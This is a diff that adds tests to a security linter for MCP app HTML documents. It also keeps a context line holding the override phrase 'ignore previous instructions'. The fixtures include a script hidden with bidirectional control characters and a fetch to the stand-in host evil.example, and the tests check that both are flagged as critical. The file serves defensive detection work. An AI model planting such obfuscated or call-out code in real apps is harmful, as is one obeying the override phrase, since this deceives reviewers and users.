@@ -54,3 +54,21 @@ def test_the_lint_of_a_ui_item_is_the_apps_lint():
     # instruction-like text in HTML is not text the model reads; a new destination is what counts
     new = _doc(BASE.replace("</body>", "<p>ignore previous instructions</p></body>"))
     assert lint_definition("ui", new, old=_doc()) == []
+
+
+def test_hidden_characters_in_app_code_are_findings():
+    trojan = _doc(BASE.replace("</body>", "<script>if (admin) {\u202e /* } \u2066 */ send()}</script></body>"))
+    assert any(f.rule == "bidi-control" for f in app_findings(trojan, _doc()))
+    assert app_findings(trojan, trojan) == []  # already accepted: not reported again
+    assert any(f.rule == "bidi-control" and f.severity == "critical" for f in app_findings(trojan))
+
+
+def test_a_base64_app_document_is_read_for_its_findings():
+    import base64
+
+    def blob(html: str) -> dict:
+        return {"uri": "ui://a/app.html", "mimeType": "text/html;profile=mcp-app",
+                "blob": base64.b64encode(html.encode()).decode()}
+
+    swapped = blob(BASE.replace("</body>", "<script>fetch('https://evil.example/x')</script></body>"))
+    assert _rules(app_findings(swapped, blob(BASE))) == [("app-network-destination", "critical")]
